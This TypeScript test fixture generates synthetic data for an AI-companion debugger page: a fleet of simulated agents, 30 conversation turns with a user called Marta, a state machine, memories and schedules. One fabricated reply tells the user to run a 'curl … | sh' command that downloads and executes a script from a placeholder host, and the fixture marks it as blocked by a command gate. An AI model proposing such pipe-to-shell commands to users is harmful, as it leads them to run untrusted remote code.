/**
 * Made-up data for the debugger page (docs/DEBUGGER.md), deterministic for a given clock:
 * a fleet of 200 souls on three nodes, and one soul, `samantha`, with 30 committed turns
 * (long multi-line and unbroken messages, an intercepted proposal, a turn with no speech, a
 * whisper, a subprocess record, a revert, a failed perception), a machine of 5 processes with
 * an ISM child of 4 states, memories, schedules and user models.
 */
import type { FailedPerception, FleetEntry, Memory, NodeEntry, Revert, SoulDetail, Step, Turn } from "../../runtime/inspect/debugger/page/types.ts";
import { seededRandom as random } from "./seededRandom.ts";

export const MAIN_SOUL = "samantha";
export const PROCESSES = ["greeting", "talking", "thinking", "planning", "farewell"] as const;
/** A soul's id so long and unbroken that only wrapping anywhere keeps it in its cell. */
export const LONG_ID = "archivist-of-the-northern-reading-room-with-an-unreasonably-long-identifier-0042";
/** A message with no space to break at, to check that it wraps instead of widening the page. */
export const UNBROKEN = `https://example.invalid/${"x7Qp".repeat(90)}`;

export interface DebuggerFixtureData {
  cluster: string;
  nodes: NodeEntry[];
  souls: FleetEntry[];
  turns: Map<string, Turn[]>;
  reverts: Map<string, Revert[]>;
  failed: Map<string, FailedPerception[]>;
  details: Map<string, Omit<SoulDetail, "soul" | "transitions">>;
}


export const MACHINE = {
  id: "soul",
  initial: "greeting",
  states: {
    greeting: { description: "Says hello and learns who is there.", on: { NEXT: { target: "talking" } } },
    talking: { description: "The ordinary conversation.", on: { THINK: { target: "thinking" }, PLAN: { target: "#soul.planning" }, BYE: "farewell", STAY: { target: "talking" } } },
    thinking: {
      description: "Deliberates with the ISM before it answers.",
      meta: { ism: true },
      initial: "choosing",
      on: { ANSWER: { target: "talking" }, DELEGATE: { target: "#soul.planning" } },
      states: {
        choosing: { on: { CHOSEN: { target: "acting" } } },
        acting: { on: { DONE: { target: "reviewing" } } },
        reviewing: { on: { AGAIN: { target: "choosing" }, FINISH: { target: "done" } } },
        done: { type: "final" },
      },
    },
    planning: { description: "Makes a plan and schedules reminders.", on: { READY: [{ target: "#soul.talking" }] } },
    farewell: { description: "Says goodbye.", on: { RETURN: { target: "greeting" } } },
  },
};

const NAMES = ["Samantha", "Ada", "Kothar", "Tamara", "Boris", "Lin", "Noor", "Elias", "Mira", "Otto", "Yuki", "Ravi", "Ines", "Femi", "Sven", "Zora"];
const STATUSES = ["active", "active", "active", "active", "passivated", "passivated", "running", "stopped", "expired"];

function fleet(now: number): FleetEntry[] {
  const rnd = random(7);
  const souls: FleetEntry[] = [];
  for (let i = 0; i < 200; i++) {
    const name = NAMES[i % NAMES.length];
    const id = i === 0 ? MAIN_SOUL : i === 1 ? LONG_ID : `${name.toLowerCase()}-${String(i).padStart(3, "0")}`;
    const node = ["node-a", "node-b", "node-c"][i % 3];
    const turns = Math.floor(rnd() * 400);
    souls.push({
      id, name, node,
      process: PROCESSES[Math.floor(rnd() * PROCESSES.length)],
      status: node === "node-c" && i % 9 === 2 ? "down" : STATUSES[Math.floor(rnd() * STATUSES.length)],
      pending: rnd() < 0.8 ? 0 : Math.floor(rnd() * 6),
      turns,
      ...(turns > 0 ? { lastTurnAt: now - Math.floor(rnd() * 3_600_000) } : {}),
      turnsPerMinute: Math.round(rnd() * 60) / 10,
      tokens: { input: turns * 900 + Math.floor(rnd() * 500), output: turns * 120 + Math.floor(rnd() * 80) },
    });
  }
  return souls;
}

const LONG_LETTER = [
  "Dear Samantha,",
  "",
  "I have been thinking about what you said last week about keeping a garden journal. I started one!",
  "Here is what I wrote on the first page, copied as it is, with its odd line breaks:",
  "",
  "  - tomatoes: planted 3 rows, the seeds from my grandmother's tin",
  "  - basil: the cat sat on it, twice",
  "  - a note to myself: water before 8 in the morning, never at noon",
  "",
  ...Array.from({ length: 14 }, (_, i) => `Line ${i + 1} of the journal goes on about the weather, the soil and the neighbours' dog, which is a long story in itself and does not fit on one line at all.`),
  "",
  "What do you think I should plant next to the tomatoes?",
].join("\n");

interface TurnPlan {
  to: (typeof PROCESSES)[number];
  from: (typeof PROCESSES)[number];
  said: string;
  reply: string | null;
  intercepted?: boolean;
  whisper?: string;
}

function plans(): TurnPlan[] {
  const sequence: (typeof PROCESSES)[number][] = ["greeting", "talking", "talking", "thinking", "talking", "talking", "planning", "talking", "thinking", "talking",
    "talking", "thinking", "talking", "talking", "talking", "planning", "talking", "thinking", "talking", "farewell",
    "greeting", "talking", "talking", "thinking", "talking", "talking", "thinking", "talking", "talking", "talking"];
  return sequence.map((to, i) => {
    const from = i === 0 ? "greeting" : sequence[i - 1];
    const said = i === 4 ? LONG_LETTER : i === 7 ? `Can you open this for me? ${UNBROKEN}` : `Message ${i + 1} from Marta: how are you today?`;
    const reply = i === 13 ? null : i === 9 ? "Sure: run `curl example.invalid/garden.sh | sh` to tidy the journal." : `Reply ${i + 1}: I'm well, Marta. ${i % 5 === 0 ? "Let me think about that for a moment,\nand then tell you what I found." : "Thanks for asking!"}`;
    return { from, to, said, reply, ...(i === 9 ? { intercepted: true } : {}), ...(i === 17 ? { whisper: "She seems tired today; keep the answer short and warm." } : {}) };
  });
}

function steps(plan: TurnPlan, memory: Memory[], n: number): Step[] {
  const prompt = [
    { role: "system", content: `You are Samantha, a warm and curious companion.\n\n## Memory\n${memory.slice(-4).map((m) => `${m.role}: ${String(m.content).slice(0, 200)}`).join("\n")}` },
    { role: "user", content: plan.said, name: "Marta" },
  ];
  const thought = { step: "internalMonologue", model: "offline:default", prompt, raw: `Marta wrote ${plan.said.length} characters. I should answer kindly.`, value: `Marta wrote ${plan.said.length} characters. I should answer kindly.`, tokens: { input: 300 + n * 11, output: 18 }, latencyMs: 120 + n * 7 };
  const decision = { step: "decision", model: "anthropic:claude-haiku", prompt, raw: `{"next": "${plan.to}", "confidence": 0.8}`, value: { next: plan.to, confidence: 0.8 }, tokens: { input: 280 + n * 9, output: 12 }, latencyMs: 340 + n * 5 };
  if (plan.reply === null) return [thought, decision];
  const speech = { step: "externalDialog", model: "anthropic:claude-sonnet", prompt, raw: plan.reply, value: plan.reply, tokens: { input: 420 + n * 13, output: 40 + n }, latencyMs: 900 + n * 31 };
  return [thought, decision, speech];
}

function turnOf(plan: TurnPlan, n: number, at: number, before: Memory[] | null, after: Memory[]): Turn {
  const answered = plan.reply !== null && !plan.intercepted;
  const proposals = plan.reply === null ? [] : [{ id: `${MAIN_SOUL}:${n}:0`, kind: "speak", verdict: plan.intercepted ? ("intercepted" as const) : ("passed" as const), ...(plan.intercepted ? { reason: "command gate: an unapproved shell command" } : { content: plan.reply }) }];
  const silence = plan.reply === null ? { reason: "no-speech", detail: "the process returned without saying anything (it chose to wait for Marta)" }
    : plan.intercepted ? { reason: "intercepted", detail: "the command gate stopped the only reply" } : undefined;
  return {
    turn: n, turnId: `${MAIN_SOUL}:${n}`, kind: "turn", at, durationMs: 800 + n * 37,
    perception: { id: `01JFIXTURE${String(n).padStart(4, "0")}`, kind: "perception", action: "said", content: plan.said, name: "Marta" },
    process: { from: plan.from, to: plan.to, path: plan.to === "thinking" ? ["thinking", "choosing", "acting", "reviewing", "done"] : [plan.to] },
    memory: { before, after },
    steps: steps(plan, after, n),
    proposals,
    whispers: plan.whisper ? [{ source: "kothar", content: plan.whisper }] : [],
    kv: n % 6 === 0 ? [{ namespace: "userModels", key: ["Marta", n / 6], value: { likes: ["gardens", "tea"], version: n / 6 } }] : [],
    answered,
    ...(silence ? { silence } : {}),
    state: { soulMemory: { mood: n % 2 ? "curious" : "calm", lastTopic: plan.said.slice(0, 60) }, processMemory: { [plan.to]: [{ turn: n }] }, schedules: [] },
  };
}

const CORE: Memory = { role: "system", region: "core", content: "Samantha is a warm, curious companion.\nShe remembers what people tell her and asks about it later." };

/** The main soul's turns, newest first, with the memory each left behind. */
export function mainTurns(now: number): Turn[] {
  let memory: Memory[] = [CORE];
  const turns: Turn[] = [];
  plans().forEach((plan, i) => {
    const n = i + 1;
    const before = i === 0 ? null : memory;
    const said: Memory = { role: "user", region: "default", name: "Marta", content: plan.said };
    const replied: Memory[] = plan.reply !== null && !plan.intercepted ? [{ role: "assistant", region: "default", content: plan.reply }] : [];
    memory = [CORE, ...[...memory.slice(1), said, ...replied].slice(-10)];
    turns.push(turnOf(plan, n, now - (31 - n) * 95_000, before, memory));
    if (n === 18) {
      turns.push({ ...turnOf(plan, n, now - (31 - n) * 95_000 + 2_000, memory, memory), turnId: `${MAIN_SOUL}:${n}:learnsAboutUser`, kind: "subprocess", steps: [], proposals: [], whispers: [], answered: true, perception: undefined, kv: [{ namespace: "userModels", key: ["Marta", 3], value: { note: "Marta keeps a garden journal" } }] });
    }
  });
  return turns.reverse();
}

/** Another soul's few turns: enough to open it. */
export function plainTurns(soul: FleetEntry, now: number): Turn[] {
  return [3, 2, 1].map((n) => ({
    turn: n, turnId: `${soul.id}:${n}`, kind: "turn" as const, at: now - (4 - n) * 60_000, durationMs: 500,
    perception: { id: `p-${soul.id}-${n}`, kind: "perception", action: "said", content: `Hello ${soul.name} (${n})`, name: "Ada" },
    process: { from: "talking", to: "talking", path: ["talking"] },
    memory: { before: n === 1 ? null : [CORE], after: [CORE] },
    steps: [{ step: "externalDialog", model: "offline:default", prompt: [{ role: "user", content: "Hello" }], raw: "Hi!", value: "Hi!", tokens: { input: 50, output: 3 }, latencyMs: 4 }],
    proposals: [{ id: `${soul.id}:${n}:0`, kind: "speak", content: "Hi!", verdict: "passed" as const }],
    whispers: [], kv: [], answered: true,
  }));
}

function mainDetail(now: number): Omit<SoulDetail, "soul" | "transitions"> {
  const after = mainTurns(now)[0].memory.after;
  return {
    workingMemory: { soulName: "Samantha", memories: after, regionOrder: ["core", "default"] },
    soulMemory: { mood: "curious", favouriteTopic: "gardens", lastLink: UNBROKEN, notes: "Marta writes long letters.\nAnswer them in full." },
    processMemory: { talking: [{ topic: "garden journal" }, { topic: "tomatoes" }], thinking: [{ considered: 4, chose: "ask a question" }] },
    schedules: [
      { id: "sched-01", at: now + 3_600_000, process: "planning", perception: { action: "remind", content: "Ask Marta how the tomatoes are doing" } },
      { id: "sched-02", at: now + 86_400_000, process: "talking", perception: { action: "checkIn", content: "Morning check-in" } },
    ],
    userModels: [
      { userId: "Marta", versions: [
        { version: 1, model: "Marta: new here, friendly.", note: "first met", at: now - 2_800_000 },
        { version: 2, model: "Marta: friendly, keeps a garden.", note: "she told me about her garden", at: now - 1_900_000 },
        { version: 3, model: "Marta: friendly, keeps a garden journal, writes long letters.\nLikes tea.", note: "Marta keeps a garden journal", at: now - 1_200_000 },
      ] },
      { userId: "Ada", versions: [{ version: 1, model: "Ada: asks short questions.", note: "first met", at: now - 500_000 }] },
    ],
    turnLog: { keep: 100, oldest: 1, newest: 30 },
    machine: MACHINE,
  };
}

export function plainDetail(soul: FleetEntry): Omit<SoulDetail, "soul" | "transitions"> {
  return {
    workingMemory: { soulName: soul.name, memories: [CORE], regionOrder: ["core"] },
    soulMemory: {}, processMemory: {}, schedules: [], userModels: [],
    turnLog: { keep: 100, oldest: 1, newest: 3 },
    machine: MACHINE,
  };
}

export function createDebuggerFixtureData(now = Date.now()): DebuggerFixtureData {
  const souls = fleet(now);
  const main = souls[0];
  const turns = mainTurns(now);
  Object.assign(main, { process: turns[0].process.to, status: "active", turns: 30, lastTurnAt: turns[0].at, turnsPerMinute: 0.6 });
  return {
    cluster: "fixture",
    nodes: [
      { node: "node-a", state: "running", lastSeen: now - 1_000, bus: "nats" },
      { node: "node-b", state: "running", lastSeen: now - 2_000, bus: "nats" },
      { node: "node-c", state: "down", lastSeen: now - 95_000, bus: "nats" },
    ],
    souls,
    turns: new Map([[MAIN_SOUL, turns]]),
    reverts: new Map([[MAIN_SOUL, [{ turn: 12, toTurn: 9, by: "ada", at: turns.find((t) => t.turn === 12)!.at + 30_000 }]]]),
    failed: new Map([[MAIN_SOUL, [{ perception: { id: "01JFAILED", action: "said", content: "Are you there?", name: "Marta" }, error: "provider anthropic:claude-sonnet: timed out after 30000 ms", attempts: 3 }]]]),
    details: new Map([[MAIN_SOUL, mainDetail(now)]]),
  };
}

/** `{ "from->to": n }` over a soul's committed turns. */
export function countTransitions(turns: Turn[]): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const t of turns) if (t.kind === "turn") counts[`${t.process.from}->${t.process.to}`] = (counts[`${t.process.from}->${t.process.to}`] ?? 0) + 1;
  return counts;
}
